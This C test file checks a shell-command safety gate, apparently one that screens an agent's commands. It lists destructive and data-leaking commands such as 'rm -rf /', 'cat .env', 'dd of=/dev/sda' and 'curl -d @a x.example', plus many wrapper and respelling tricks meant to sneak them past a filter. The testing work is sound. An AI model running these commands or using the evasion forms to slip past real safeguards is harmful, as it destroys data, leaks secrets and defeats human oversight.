/* What must hold for whole families of commands; SEED in the environment
 * repeats a run, SOAK makes it longer. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/buf.h"
#include "base/mem.h"
#include "tests/gate_rows.h"

static uint64_t seed;

static size_t
pick(size_t n)
{
	seed = seed * 6364136223846793005u + 1442695040888963407u;
	return (size_t)(seed >> 33) % n;
}

static const char *const dangerous[] = {
	"rm -r x", "rm -rf /", "git reset --hard", "git push -f", "cat .env",
	"chmod 777 x", "mkfs.ext4 /dev/sda1", "sudo ls", "curl -d @a x.example",
	"find . -delete", "kill -9 1", "shutdown now", "dd of=/dev/sda if=x",
	"crontab f", "docker rm -f x", "npm publish", "tee /etc/hosts",
	"python3 -c 'import os; os.remove(\"x\")'", "pip uninstall x",
};

/* %s stands for the command, %q for it inside single quotes. */
static const char *const wrappers[] = {
	"%s", "env %s", "env A=1 %s", "nice -n 5 %s", "timeout 5 %s", "nohup %s &",
	"setsid %s", "stdbuf -oL %s", "ionice -c3 %s", "time %s", "! %s",
	"command %s", "exec %s", "busybox %s", "sudo -n %s", "doas %s",
	"ls; %s", "ls && %s", "false || %s", "ls | %s", "%s | cat", "%s &",
	"( %s )", "{ %s; }", "if true; then %s; fi", "while true; do %s; done",
	"for i in a b; do %s; done", "case a in a) %s;; esac", "f() { %s; }; f",
	"echo \"$( %s)\"", "x=$( %s)", "echo `%s`", "cat <( %s)", "ls > >( %s)",
	"cat <<E\n$( %s)\nE", "echo $((1 + $( %s)))", ": ${X:=$( %s)}", "A=1 %s",
	"bash -c %q", "sh -c %q", "bash -lc %q", "eval %q", "env -S %q",
	"echo %q | sh", "bash <<< %q", "sh <<'EOF'\n%s\nEOF", "trap %q EXIT",
	"xargs -I{} sh -c %q", "find . -exec sh -c %q \\;", "watch %q",
	"flock l -c %q", "script -qc %q /dev/null", "su -c %q", "ssh h %q",
	"parallel %q ::: a", "timeout 5 sh -c %q", "coproc %s", "ls\n%s",
	"ls \\\n; %s", "[ -f x ] && %s", "\\\n%s", "%s # comment", "a=b; %s",
	"docker exec c sh -c %q", "tmux new -d %q", "hyperfine %q",
	"select x in a; do %s; done", "until %s; do break; done",
	"for ((i=0;i<2;i++)); do %s; done", "function g { %s; }; g",
	"f() { shift; \"$@\"; }; f ls %s", "set -- %s; \"$@\"",
	"case a in b) ls;; *) %s;; esac", "[[ -n $( %s) ]]", "(( $( %s) ))",
	"x=([$( %s)]=1)", "ls \"${a:-$( %s)}\"", "ls > $( %s)", "ls <<< \"$( %s)\"",
	"cat < <( %s)", "{ %s; } > log", "( ( %s ) )", "if ls; then :; else %s; fi",
	"echo a |& %s", "coproc c { %s; }", "exec -a x %s", "nice env -i %s",
	"env - %s", "timeout -k 1 5 %s", "nohup nice %s", "chrt -b 0 %s",
	"taskset 1 %s", "numactl -N 0 %s", "unshare -r %s", "systemd-run %s",
	"strace -f %s", "valgrind %s", "perf stat %s", "xvfb-run %s",
	"arch -x86_64 %s", "watchexec -- %s", "npx cross-env A=1 %s",
	"poetry run %s", "uv run %s", "mise exec -- %s", "direnv exec . %s",
	"bash -xec %q", "bash --norc -c %q", "eval -- %q",
	"x=%q; eval \"$x\"",
	"x=%q; bash -c \"$x\"", "for c in %q; do eval \"$c\"; done",
	"echo %q | tee x | sh", "tee x <<< %q | sh",
	"bash -s <<< %q", "bash < <(echo %q)", ". <(echo %q)", "source /dev/stdin <<< %q",
	"echo %q > s.sh; sh s.sh", "alias q=%q\nq", "trap %q INT",
	"nodemon --exec %q", "concurrently ls %q",
	"cargo watch -s %q", "npx -c %q", "nix-shell --run %q", "at now <<< %q",
	"screen -dm sh -c %q", "git rebase --exec %q main", "xargs -a f sh -c %q",
	"cd src && %s", "set -e; %s", "true; : 'x'; %s", "%s 2>&1", "%s >/dev/null",
};

static void
quoted(struct buf *b, const char *s)
{
	buf_add_char(b, '\'');
	for (; *s; s++) {
		if (*s == '\'')
			buf_add_str(b, "'\\''");
		else
			buf_add_char(b, *s);
	}
	buf_add_char(b, '\'');
}

static char *
wrap(const char *template, const char *command)
{
	struct buf b;
	buf_init(&b, 1 << 20);
	for (const char *p = template; *p; p++) {
		if (p[0] == '%' && p[1] == 's')
			buf_add_str(&b, command), p++;
		else if (p[0] == '%' && p[1] == 'q')
			quoted(&b, command), p++;
		else
			buf_add_char(&b, *p);
	}
	return buf_take(&b);
}

/* The command's first word spelled in another way. */
static char *
respell(const char *command)
{
	struct buf b;
	size_t n = strcspn(command, " "), way = pick(7);
	buf_init(&b, 1 << 20);
	switch (way) {
	case 0:
		buf_printf(&b, "\\%.*s", (int)n, command);
		break;
	case 1:
		buf_printf(&b, "'%.*s'", (int)n, command);
		break;
	case 2:
		buf_printf(&b, "\"%.*s\"", (int)n, command);
		break;
	case 3:
		buf_printf(&b, "%c''%.*s", command[0], (int)n - 1, command + 1);
		break;
	case 4:
		buf_printf(&b, "$'\\x%02x%.*s'", (unsigned)command[0], (int)n - 1,
			command + 1);
		break;
	case 5:
		buf_printf(&b, "/usr/bin/%.*s", (int)n, command);
		break;
	default:
		buf_printf(&b, "$(echo %.*s)", (int)n, command);
		break;
	}
	buf_add_str(&b, command + n);
	return buf_take(&b);
}

static void
expect(const char *command, bool asks)
{
	enum gate_level got = gate_level_of(&gate_row_ctx, command, strlen(command));
	if ((got >= GATE_ASK) == asks)
		return;
	fprintf(stderr, "# %s: %s\n", gate_level_name(got), command);
	fail();
}

static void
no_wrapper_makes_a_dangerous_command_silent(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(dangerous); i++) {
		for (size_t k = 0; k < ARRAY_LEN(wrappers); k++) {
			CLEANUP_FREE char *once = wrap(wrappers[k], dangerous[i]);
			expect(once, true);
		}
	}
}

static void
no_two_wrappers_and_spellings_do_either(void **state)
{
	size_t rounds = getenv("SOAK") ? 200000 : 4000;
	(void)state;
	for (size_t i = 0; i < rounds; i++) {
		CLEANUP_FREE char *spelled = respell(dangerous[pick(
			ARRAY_LEN(dangerous))]);
		CLEANUP_FREE char *inner = wrap(wrappers[pick(ARRAY_LEN(wrappers))],
			spelled);
		CLEANUP_FREE char *outer = wrap(wrappers[pick(ARRAY_LEN(wrappers))],
			inner);
		expect(outer, true);
	}
}

static void
what_must_never_run_stays_never_in_plain_wrappers(void **state)
{
	static const char *const plain[] = { "env %s", "nice %s", "nohup %s &",
		"timeout 5 %s", "sudo %s", "ls; %s", "( %s )", "sh -c %q", "eval %q",
		"echo $( %s)", "if true; then %s; fi", "f() { %s; }; f",
		"echo %q | sh", "bash <<'E'\n%s\nE", "busybox %s", "ssh h %q",
		"find . -exec sh -c %q \\;", "trap %q EXIT" };
	static const char *const fatal[] = { "rm -rf /", "shutdown now",
		"mkfs.ext4 /dev/sda1", "dd of=/dev/sda if=x", "kill -9 -1",
		"chmod -R 000 /", "rm -rf ~", "tee /dev/sda" };
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(fatal); i++) {
		for (size_t k = 0; k < ARRAY_LEN(plain); k++) {
			CLEANUP_FREE char *text = wrap(plain[k], fatal[i]);
			enum gate_level got = gate_level_of(&gate_row_ctx, text,
				strlen(text));
			if (got != GATE_NEVER)
				fprintf(stderr, "# %s: %s\n", gate_level_name(got), text);
			assert_int_equal(got, GATE_NEVER);
		}
	}
}

static void
dangerous_words_in_data_stay_silent(void **state)
{
	static const char *const data[] = { "echo %q", "printf %q",
		"grep -rn %q .", "rg %q src", "git commit -m %q",
		"git log --grep=%q", "gh pr create --title t --body %q",
		"cat > n.md <<'EOF'\n%s\nEOF", "cat >> /tmp/n.md <<'EOF'\n%s\nEOF",
		"git commit -m \"$(cat <<'EOF'\n%s\nEOF\n)\"", "ls # %s",
		"x=%q; echo \"$x\"", "touch n.txt && echo %q >> n.txt",
		"jq --arg a %q '.x = $a' f.json", "git stash push -m %q",
		"[ \"$a\" = %q ] && echo same", "case $a in %q) echo yes;; esac",
		"test %q = a", "sed -n %q < /dev/null || true", "read -r a <<< %q",
		"sh -c 'echo \"$1\"' _ %q", "git tag -m %q v1", "diff <(echo %q) a.txt",
		"docker build --label note=%q .", "for w in %q; do echo \"$w\"; done",
		"awk -v c=%q '$0 == c' log", "jq -n --arg c %q '{c: $c}'",
		"rg -F %q", "git grep -F %q", "git commit -F - <<'E'\ns\n\n%s\nE",
		"git notes add -m %q", "gh issue comment 1 -b %q",
		"tee docs/x.md <<'EOF'\n%s\nEOF", "cat <<'EOF' | wc -l\n%s\nEOF",
		"while read -r l; do echo \"$l\"; done <<'E'\n%s\nE",
		"a=(%q b); echo \"${#a[@]}\"", "declare -A m=([x]=%q); echo \"${m[x]}\"",
		"f() { echo \"$1\"; }; f %q", "msg=%q make", "[[ $a == %q ]] || echo no",
		"if grep -q %q f; then echo y; fi", "echo a %q | grep -c b",
		"python3 script.py --note %q",
		"./run.sh %q", "npm test -- -t %q", "cargo test -- %q", "touch %q.txt",
		"xargs -n1 echo %q < f", "timeout 5 echo %q", "env X=%q printenv X",
		"cat <(echo %q)", "sort <<< %q", "docker run --rm alpine echo %q",
		": %q", "true # %s", "ls; # %s", "date +%q" };
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(dangerous); i++) {
		for (size_t k = 0; k < ARRAY_LEN(data); k++) {
			if (strncmp(data[k], "sed", 3) == 0)
				continue;	/* there it is a program */
			CLEANUP_FREE char *text = wrap(data[k], dangerous[i]);
			expect(text, false);
		}
	}
}

static size_t
steps_of(const char *unit, const char *head, const char *tail, size_t bytes)
{
	struct buf b;
	struct gate_verdict v;
	buf_init(&b, 1 << 20);
	buf_add_str(&b, head);
	while (b.len < bytes)
		buf_add_str(&b, unit);
	buf_add_str(&b, tail);
	gate_classify(&gate_row_ctx, b.data, b.len, &v);
	size_t steps = v.steps;
	gate_verdict_done(&v);
	buf_done(&b);
	return steps;
}

static void
work_grows_with_length_and_no_faster(void **state)
{
	static const char *const shapes[][3] = {
		{ "x", "echo ", "" }, { "a ", "echo ", "" }, { "a|", "", "b" },
		{ "a;", "", "" }, { "a&&", "", "b" }, { "$x", "echo ", "" },
		{ "'a'", "echo ", "" }, { "\"a\"", "echo ", "" }, { "\\a", "echo ", "" },
		{ "a\n", "cat <<'E'\n", "\nE\n" }, { "$x\n", "cat <<E\n", "\nE\n" },
		{ "\t\n", "", "" }, { "# c\n", "", "" }, { "`a`", "echo ", "" },
		{ "$(a)", "echo ", "" }, { "{a,b}", "echo ", "" }, { "(", "", "" },
		{ "${x:-", "echo ", "" }, { "a[", "", "" }, { "<<E\n", "cat ", "" },
		{ "x=1 ", "", "" }, { ">a ", "", "" }, { "if a;then ", "", "" },
		{ "*", "ls ", "" }, { "/..", "ls ", "" }, { "a() ", "", "" },
		{ "x=$x$x;", "x=ab;", "" }, { "\"", "echo ", "" }, { "'", "", "" },
		{ "f(){ f2; };", "", "" }, { "{", "echo ", "" }, { "sh -c ", "", "" },
		{ "s/a/b/;", "sed '", "'" }, { "print \"a\";", "awk '{", "}'" },
		{ "print(1);", "python3 -c '", "'" }, { "a,", "echo {", "}" },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(shapes); i++) {
		const char *const *s = shapes[i];
		size_t small = steps_of(s[0], s[1], s[2], 16000);
		size_t large = steps_of(s[0], s[1], s[2], 128000);
		if (large > small * 9 + 400000)
			fprintf(stderr, "# %s: %zu steps, then %zu\n", s[0], small,
				large);
		assert_true(large <= small * 9 + 400000);
		assert_true(large < 128000u * 120);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(no_wrapper_makes_a_dangerous_command_silent),
		cmocka_unit_test(no_two_wrappers_and_spellings_do_either),
		cmocka_unit_test(what_must_never_run_stays_never_in_plain_wrappers),
		cmocka_unit_test(dangerous_words_in_data_stay_silent),
		cmocka_unit_test(work_grows_with_length_and_no_faster),
	};
	const char *given = getenv("SEED");
	seed = given ? strtoull(given, NULL, 10) : 20261129;
	fprintf(stderr, "# SEED=%llu\n", (unsigned long long)seed);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
